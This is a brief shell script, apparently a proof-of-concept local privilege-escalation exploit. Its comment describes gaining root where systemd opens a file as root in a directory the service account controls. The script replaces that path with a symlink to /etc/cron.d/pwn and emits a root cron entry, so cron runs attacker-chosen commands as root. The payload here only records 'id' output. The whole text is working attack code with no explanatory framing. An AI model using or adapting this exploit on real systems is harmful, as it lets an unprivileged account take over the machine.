#!/bin/sh
# Becomes root where systemd opens $1 as root in a directory of this service's account: it follows the link, and cron runs what is printed.
L=$1
if [ ! -L "$L" ]; then rm -f "$L"; ln -s /etc/cron.d/pwn "$L"; exit 1; fi
printf '* * * * * root id >/root/pwned\n'; sleep 1000
